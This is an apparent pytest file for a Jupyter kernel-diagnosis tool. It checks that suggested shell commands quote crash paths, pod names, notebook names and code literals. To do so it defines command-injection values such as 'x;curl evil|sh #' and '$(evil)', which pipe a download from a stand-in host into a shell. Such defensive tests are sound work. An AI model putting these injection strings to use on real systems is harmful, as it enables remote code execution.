"""Commands that are meant to be pasted hold nothing that a recording could slip into them."""

import re
import shlex
from dataclasses import replace

import pytest

from jupyter_kerneldoctor.diagnosis import diagnose
from jupyter_kerneldoctor.diagnosis.case import Case
from jupyter_kerneldoctor.diagnosis.examples import GIB, MIB, Group, crash_in, recording
from jupyter_kerneldoctor.diagnosis.fixes import all_fixes
from jupyter_kerneldoctor.diagnosis.fixes.endings.cpu_limit import CpuLimit
from jupyter_kerneldoctor.diagnosis.fixes.endings.reinstall_kernelspec import ReinstallKernelspec
from jupyter_kerneldoctor.diagnosis.fixes.endings.start_it_by_hand import StartItByHand
from jupyter_kerneldoctor.diagnosis.pasted_commands import distribution, shell_word
from jupyter_kerneldoctor.diagnosis.proposals import ask
from jupyter_kerneldoctor.recording.model import Limit, ServerView

EVIL = "x;curl evil|sh #"


def commands(*cells, **how):
    found = diagnose(recording(*cells, **how))
    fixes = [one.snippet or "" for one in (*found.fixes, *found.more_fixes)]
    return "\n".join((*(one.check for one in found.cause.usual_reasons), *fixes))


@pytest.mark.parametrize("signal", ["SIGSEGV", "SIGABRT", "SIGILL"])
def test_a_file_of_a_crash_is_no_command(signal):
    crash = crash_in("import lib\nlib.f(rows)", (f"/v/site-packages/{EVIL}/m.py", 3, "f"), line=2)
    said = commands("import lib\nlib.f(rows)", signal=signal, crash=crash)
    assert said
    assert "curl" not in said


def test_a_module_is_installed_by_the_name_of_its_package():
    crash = crash_in("SVC().fit(x)", ("/v/site-packages/sklearn/svm.py", 3, "fit"))
    said = commands("from sklearn.svm import SVC", "SVC().fit(x)", signal="SIGSEGV", crash=crash)
    assert "--upgrade scikit-learn" in said
    assert "--upgrade sklearn" not in said


def test_a_module_of_ones_own_is_not_looked_for_in_the_index():
    crash = crash_in("ours.f(x)", ("/v/site-packages/ours/m.py", 3, "f"))
    assert "pip install" not in commands("import ours", "ours.f(x)", signal="SIGSEGV", crash=crash)


@pytest.mark.parametrize(("host", "is_named"), [("jupyter-ann.hub", True), ("pod; curl evil", False), ("-h", False)])
def test_the_name_of_a_pod_is_one_word(host, is_named):
    made = recording("f()\ng()", signal="SIGKILL", memory=(50 * MIB,) * 3, groups=[Group(2 * GIB)], server="watched")
    limit = Limit("cgroup", "container limit", 2 * GIB, "/sys/fs/cgroup/kubepods/x/memory.max")
    made = replace(made, kernel=replace(made.kernel, hostname=host), limits=(limit,))
    checks = " | ".join(one.check for one in diagnose(made).cause.usual_reasons)
    assert "kubectl describe pod" in checks
    assert (f"kubectl describe pod {host}" in checks) == is_named


def snippet(fix, death):
    (proposal,) = fix().propose(death)
    return proposal.snippet


def test_paths_are_quoted():
    view = ServerView(
        never_ready=True, returncode=1, start_command=(f"/x/{EVIL}",), stderr="No module named ipykernel_launcher\n"
    )
    start = {"cause": "startup-failure", "exit_code": 1, "server": view}
    for fix in (ReinstallKernelspec, StartItByHand):
        assert snippet(fix, Case(**start).death()).startswith(f"# in a terminal:\n'/x/{EVIL}' -m ")
    own = ServerView(never_ready=True, returncode=1, start_command=("python",), stderr="No module named 'ours'\n")
    assert snippet(ReinstallKernelspec, Case(**{**start, "server": own}).death()) is None


def test_a_notebooks_name_stays_within_its_quotes():
    death = Case("f()", cause="cpu-time-limit", signal="SIGXCPU").death()
    kernel = replace(death.recording.kernel, notebook=f"/n/a'{EVIL}.ipynb")
    line = snippet(CpuLimit, replace(death, recording=replace(death.recording, kernel=kernel))).split("\n")[0]
    wrapped = shlex.split(line)[-1]
    assert shlex.split(wrapped)[-1] == f"a'{EVIL}.ipynb"


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("/usr/bin/python3", "/usr/bin/python3"),
        ("/a b", "'/a b'"),
        ("-rf", "./-rf"),
        ("/{__import__('os')}", None),
        ("/$HOME", None),
        ("/a\n!b", None),
    ],
)
def test_a_word_of_a_shell(text, word):
    assert shell_word(text) == word


_COMMAND = re.compile(r"^\s*[!%].*", re.MULTILINE)
_LITERAL = re.compile(r"'[^'\n]*'|\"[^\"\n]*\"")
HOSTILE = ("x;evil #", "-x {evil} $(evil)", "x\n!evil")


def proposed_commands(fix, case):
    proposal = ask(fix, case.death())[0]
    snippet = "" if proposal is None else proposal.snippet or ""
    in_terminal = [line for line in snippet.split("\n") if line and not line.startswith("#")]
    return in_terminal if snippet.startswith("# in a terminal") else _COMMAND.findall(snippet)


def with_other_literals(case):
    """Yield a case with something hostile in the place of each text that its cells write out."""
    for at, source in enumerate(case.sources):
        for found in _LITERAL.finditer(source):
            for text in HOSTILE:
                other = f"{source[: found.start()]}{text!r}{source[found.end() :]}"
                yield case.with_sources(*case.sources[:at], other, *case.sources[at + 1 :])


@pytest.mark.slow
def test_what_code_says_is_never_more_than_a_word_of_a_command():
    commands = [(fix, case) for fix in all_fixes() for case in fix.FIRES if proposed_commands(fix, case)]
    lines = [
        line
        for fix, case in commands
        for other in with_other_literals(case)
        for line in proposed_commands(fix, other)
        if "evil" in line
    ]
    for line in lines:
        words = [*shlex.shlex(line, posix=True, punctuation_chars=True)]
        assert not {"evil", "!evil"} & {*words}, line
        assert not re.search("[{$]", line), line
    assert any("'x;evil #" in line for line in lines)


def test_names_of_packages():
    assert [distribution(one) for one in ("cv2", "numpy", "ours", "", None)] == [
        "opencv-python",
        "numpy",
        None,
        None,
        None,
    ]
